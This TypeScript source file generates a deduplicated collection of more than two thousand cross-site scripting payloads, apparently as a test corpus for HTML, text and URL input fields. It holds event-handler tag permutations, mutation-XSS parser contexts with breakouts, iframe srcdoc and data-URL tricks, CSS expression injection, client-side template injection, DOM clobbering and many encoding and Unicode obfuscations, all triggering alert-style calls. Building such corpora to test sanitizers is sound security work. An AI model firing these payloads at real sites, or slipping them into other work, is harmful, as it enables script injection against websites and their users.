import { addresses, carriers, disguises, entity, lines, players, words } from './payload-urls.js';

/**
 * More than two thousand ways to run a script, made from techniques of the known
 * cheat sheets. Each would call `alert`, `confirm`, `prompt` or `print`.
 */
export interface Payload {
  /** What it tries. */
  technique: string;
  /** For fields that hold HTML. */
  html: string;
  /** For fields that hold text. */
  text: string;
  /** For fields that hold a URL. */
  url: string;
}

/** One after the other, and again from the start. */
const turns = <T>(list: T[]): (() => T) => {
  let i = 0;
  return () => list[i++ % list.length]!;
};

const code = turns([
  ...[
    'alert(1)',
    'confirm(1)',
    'prompt(1)',
    'print()',
    'alert`1`',
    '(alert)(1)',
    '[1].find(alert)',
  ],
  ...[
    "top['al'+'ert'](1)",
    "self[atob('YWxlcnQ=')](1)",
    "Function('alert(1)')()",
    'parent.alert(1)',
  ],
  ...["setTimeout('alert(1)')", '\\u0061lert(1)', '&#97;lert(1)', 'alert&lpar;1&rpar;'],
  ...["import('data:text/javascript,alert(1)')", 'with(document)defaultView.alert(1)'],
]);

const events = words(`
  load error click focus blur focusin mouseover mouseenter pointerenter pointerrawupdate toggle
  beforetoggle start finish animationstart transitionend webkitanimationstart begin end repeat
  canplay loadstart scrollend wheel resize hashchange pageshow message popstate input change invalid
  submit select cut paste keydown contextmenu drag contentvisibilityautostatechange auxclick`);

const tags = lines(`
  img src=x
  img src=data:, alt=y
  svg
  body
  video src=x autoplay
  audio src=data:,
  iframe src=about:blank
  details open
  input autofocus type=image src=x
  select autofocus
  textarea autofocus
  button autofocus
  marquee loop=1 width=0
  object data=x
  embed src=x
  link rel=stylesheet href=x
  math href=x
  form id=y
  table background=x
  a href=# autofocus tabindex=0
  p contenteditable autofocus
  h2 tabindex=1 style=animation-name:x
  li style=content-visibility:auto
  x-y tabindex=1 autofocus
  style
  frameset
  figure tabindex=0
  isindex type=image src=1
  dialog open
  script src=data:,`);

const gap = turns([' ', '/', '\t', '\n', '\f', ' / ', '\r\n', '/x=1 ', ' x="y"']);
const spelling = turns<(name: string) => string>([
  (name) => name,
  (name) => name.toUpperCase(),
  (name) => name.replace(/(?<=.)./, (c) => c.toUpperCase()),
]);

const handlers = tags.flatMap((tag) =>
  events.map((event) => {
    const [name, ...rest] = tag.split(' ');
    return `<${spelling()(name!)}${gap()}${spelling()(`on${event}`)}="${code()}" ${rest.join(' ')}>`;
  }),
);

/** Where another parser, or the same one a second time, sees another tree. */
const contexts = lines(`
  <math><mtext><table><mglyph><style>
  <form><math><mtext></form><form><mglyph><style>
  <math><mi><table><mglyph><svg><mtext><style>
  <math><annotation-xml encoding="text/html"><style>
  <math><style>
  <svg><style>
  <svg></p><style>
  <svg><desc><noscript>
  <svg><title><style>
  <svg><foreignObject><math><style>
  <svg><foreignObject><p title="
  <svg><script>
  <table><caption><svg><title><table><caption></caption></table><style>
  <a><table><tr><svg><a><style>
  <select><template><style>
  <select><svg><option>
  <template><div>
  <template shadowrootmode=open>
  <noscript><p title="
  <noscript><style>
  <noembed>
  <noframes>
  <xmp>
  <listing>
  <iframe>
  <style>
  <title>
  <textarea>
  <script>/*
  <!--
  <!-->
  <![CDATA[
  <?xml version="1.0"?><?php
  <!DOCTYPE x [<!ENTITY y "
  <p title='
  <dialog><li><table><p id="`);

const image = '<img src=x onerror=alert(1)>';
const breakouts = [
  ...['style', 'noscript', 'title', 'textarea', 'template', 'xmp', 'script', 'iframe'].map(
    (tag) => `</${tag}>${image}`,
  ),
  ...[`-->${image}`, `--!>${image}`, `]]>${image}`, `">${image}`, `'>${image}`, `</p>${image}`],
  `<!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
  `<a title="</style>${image}">x</a>`,
  `<a id="</noscript></title>${image}">x</a>`,
  `&lt;/style&gt;${image.replaceAll('<', '&lt;')}`,
  `<path id="</style>${image}"></svg></math>${image}`,
];

const others: Record<string, string[]> = {
  scripts: lines(`
    <script>alert(1)</script>
    <SCRIPT SRC=data:text/javascript,alert(1)></SCRIPT>
    <script >alert(1)</script bar>
    <script type=module>alert(1)</script>
    <script type="text/javascript;x">alert(1)</script>
    <scr<script>ipt>alert(1)</scr</script>ipt>
    <<script>alert(1)//<</script>
    <script>alert(1)
    <script/random>alert(1)</script>
    <script>\\u0061lert(1)</script>
    <svg><script>alert&#40;1&#41;</script></svg>
    <svg><script href="data:text/javascript,alert(1)"/></svg>
    <svg><script>/<@/>alert(1)</script>
    <math><script>alert(1)</script></math>
    <div><script>document.write('<img src=x onerror=alert(1)>')</script></div>
    </p></div></article><script>alert(1)</script>
    --><script>alert(1)</script><!--
    ]]></content><script>alert(1)</script>
    <script for=window event=onload>alert(1)</script>
    <x><script>alert(1)</script></x>`),
  frames: [
    '<script>parent.alert(1)</script>',
    '<img src=x onerror=parent.alert(1)>',
    '<svg onload=top.alert(1)>',
    '<base target=_parent><form action=javascript:alert(1)><input type=submit autofocus>',
  ].flatMap((inner) => {
    const written = inner.replaceAll('<', '&lt;').replaceAll('"', '&quot;');
    return [
      `<iframe srcdoc="${written}"></iframe>`,
      `<iframe srcdoc="${written.replaceAll('&', '&amp;')}" sandbox="allow-scripts"></iframe>`,
      `<iframe src="javascript:'${written}'"></iframe>`,
      `<object data="data:text/html,${written}"></object>`,
      `<embed src="data:text/html;charset=utf-8,${written}">`,
      `<iframe src=https://www.youtube.com/embed/aaaaaaaaaaa srcdoc="${written}" title="${written}"></iframe>`,
      `<frameset><frame src="data:text/html,${written}"></frameset>`,
      `<portal src="data:text/html,${written}"></portal><fencedframe src="data:text/html,${written}"></fencedframe>`,
    ];
  }),
  srcset: addresses.flatMap((url) => [
    `<img srcset="${url.replaceAll('"', '&quot;')}">`,
    `<img srcset=",${url.replaceAll('"', '&quot;')} 2x,,x.png 100w" src=x onerror=alert(1)>`,
  ]),
  styles: [
    'background:url(javascript:alert(1))',
    'background-image:url(&quot;javascript:alert(1)&quot;)',
    'width:expression(alert(1))',
    'xss:expr/**/ession(alert(1))',
    '-moz-binding:url(data:text/xml,x#xss)',
    'behavior:url(#default#time2)',
    '@import url(data:text/css,*{x:expression(alert(1))})',
    'list-style:url(javascript:alert(1))',
    "animation:x 1s;content:'</style><img src=x onerror=alert(1)>'",
    'position:fixed;inset:0;z-index:99999',
  ].flatMap((style) => [
    `<div style="${style}">x</div>`,
    `<style>*{${style}}</style>`,
    `<svg><style>*{${style}}</style></svg>`,
    `<link rel=stylesheet href="data:text/css,*{${style}}">`,
  ]),
  'the page': lines(`
    <meta http-equiv=refresh content="0;url=javascript:alert(1)">
    <meta http-equiv="Set-Cookie" content="a=<script>alert(1)</script>">
    <meta http-equiv=Content-Security-Policy content="default-src *">
    <base href="javascript:alert(1)//">
    <base href=https://evil.example/ target=_blank>
    <link rel=import href="data:text/html,<script>alert(1)</script>">
    <link rel=manifest href=javascript:alert(1)>
    <body onload=alert(1)><p>x
    </body></html><svg onload=alert(1)>
    <html manifest=javascript:alert(1) onpageshow=alert(1)>
    <?xml-stylesheet href="javascript:alert(1)"?>
    <!DOCTYPE html PUBLIC "><img src=x onerror=alert(1)>
    <event-source src="https://evil.example/" onload="alert(1)">
    <bgsound src="javascript:alert(1)"><layer src="javascript:alert(1)"></layer>
    <xml id=x><x><![CDATA[<img src=x onerror=alert(1)>]]></x></xml>
    <plaintext><img src=x onerror=alert(1)>`),
  templates: [
    ...[
      '{{ }}',
      '${ }',
      '#{ }',
      '<%= %>',
      '[[ ]]',
      '{% %}',
      '${{ }}',
      '@( )',
      '{{{ }}}',
      '$( )',
    ].flatMap((open) =>
      [
        'alert(1)',
        "constructor.constructor('alert(1)')()",
        'this.constructor.constructor("alert(1)")()',
      ].map((inside) => open.replace(' ', inside)),
    ),
    ...[
      'ng-app ng-init',
      'v-html',
      'x-init',
      'x-data',
      '@click',
      ':onerror',
      'data-bind',
      'hx-on:load',
    ].map((name) => `<div ${name}="constructor.constructor('alert(1)')()">{{1+1}}</div>`),
    ...[
      '<?lit$1$?>',
      '<!--?lit$1$-->',
      '<!--lit-part-->',
      'lit$123456789$',
      '$lit$="{{lit-1}}"',
    ].map((lit) => `${lit}<img src=x onerror=alert(1)${lit}>`),
    ...[
      "'-alert(1)-'",
      '";alert(1)//',
      '`;alert(1)//',
      '</script><svg onload=alert(1)>',
      '\\";alert(1)//',
    ],
  ],
  'names of the page': words(`
    document location alert customElements litHtmlVersions reactiveElementVersions litElementVersions
    attributes nodeName childNodes parentNode firstChild innerHTML getAttribute body cookie
    getElementById __proto__ constructor prototype hasOwnProperty trustedTypes`).flatMap((name) => [
    `<img name="${name}" id="${name}" src=x onerror=alert(1)>`,
    `<form id="${name}"><input name="${name}"><input name=attributes onfocus=alert(1) autofocus></form>`,
    `<a id="${name}"></a><a id="${name}" name="url" href="javascript:alert(1)">x</a>`,
    `<h2 id="${name}">${name}</h2><iframe name="${name}" srcdoc="&lt;script>parent.alert(1)&lt;/script>"></iframe>`,
  ]),
  encodings: [
    ...[
      image,
      '<svg/onload=alert(1)>',
      '<script>alert(1)</script>',
      '<a href=javascript:alert(1)>x</a>',
    ].flatMap((markup) => [
      entity(markup, (n) => `&#${n};`),
      entity(markup, (n) => `&#x${n.toString(16)};`),
      entity(markup, (n) => `&#${String(n).padStart(9, '0')}`),
      markup.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
      markup.replaceAll('<', '&amp;lt;').replaceAll('>', '&amp;gt;'),
      markup.replaceAll('<', '&amp;amp;lt;'),
      markup.replaceAll('<', '&LT').replaceAll('>', '&GT'),
      encodeURIComponent(markup),
      entity(markup, (n) => `\\u${n.toString(16).padStart(4, '0')}`),
      entity(markup, (n) => `\\x${n.toString(16)}`),
      entity(markup, (n) => (n > 32 ? String.fromCodePoint(n + 0xfee0) : ' ')),
      markup.replaceAll('<', '\u00bc').replaceAll('>', '\u00be'),
      markup.replaceAll('<', '\u2039').replaceAll('>', '\u203a'),
      markup.replaceAll('<', '+ADw-').replaceAll('>', '+AD4-'),
      markup.replaceAll('<', '\u0000<\u0000'),
      markup.replaceAll('<', '<\u0000'),
      markup.replaceAll('<', '\ufeff<\u200b'),
      `\u202e${markup}\u202c`,
      `\u2066${[...markup].reverse().join('')}\u2069`,
      markup.replace(/[a-z](?=[a-z]*[ />])/i, (c) => `${c}\u0307`),
      markup.replace('s', '\u017f').replace('i', '\u0131'),
      markup.replaceAll(' ', '\u2028').replaceAll('=', '\u2028=\u2029'),
    ]),
  ],
};

const same = (technique: string, list: string[]): Payload[] =>
  list.map((html) => ({ technique, html, text: html, url: html }));

const all: Payload[] = [
  ...same('event handlers', handlers),
  ...addresses
    .flatMap((url) => disguises.map((disguise) => disguise(url)))
    .map((url) => ({ technique: 'addresses', html: carriers(url), text: url, url })),
  ...same(
    'mutations',
    contexts.flatMap((context) => breakouts.map((breakout) => context + breakout)),
  ),
  ...addresses.map((url) => ({ technique: 'players', html: players(url), text: url, url })),
  ...Object.entries(others).flatMap(([technique, list]) => same(technique, list)),
];

/** All of them, none twice. */
export const payloads: Payload[] = [...new Map(all.map((each) => [each.html, each])).values()];
